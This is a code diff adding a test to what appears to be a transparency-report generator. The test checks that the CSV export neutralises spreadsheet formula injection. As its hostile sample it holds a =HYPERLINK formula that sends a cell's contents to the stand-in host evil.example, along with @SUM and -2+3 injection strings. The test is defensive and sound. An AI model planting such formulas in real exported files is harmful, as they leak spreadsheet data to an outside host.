@@ -84,3 +84,13 @@ def test_write_report(tmp_path: Path) -> None:
     paths = write_report(_report(), tmp_path / "out")
     assert [p.name for p in paths] == ["transparency.json", "transparency.csv", "transparency.html"]
     assert json.loads(paths[0].read_text())["requests_total"] == 6
+
+
+def test_csv_neutralises_formula_cells() -> None:
+    hostile = '=HYPERLINK("https://evil.example/?x="&A1,"open")'
+    report = build_report(date(2026, 1, 1), date(2026, 6, 30), ROWS, cybertip_reports=1,
+                          actioned={hostile: 2, "@SUM(1+1)": 1, "-2+3": 1, "escort": 4})
+    rows = list(csv.reader(io.StringIO(to_csv(report))))
+    keys = {r[1] for r in rows if r[0] == "posts_actioned"}
+    assert keys == {"'" + hostile, "'@SUM(1+1)", "'-2+3", "escort"}
+    assert all(not cell.startswith(("=", "@", "+")) for row in rows for cell in row)
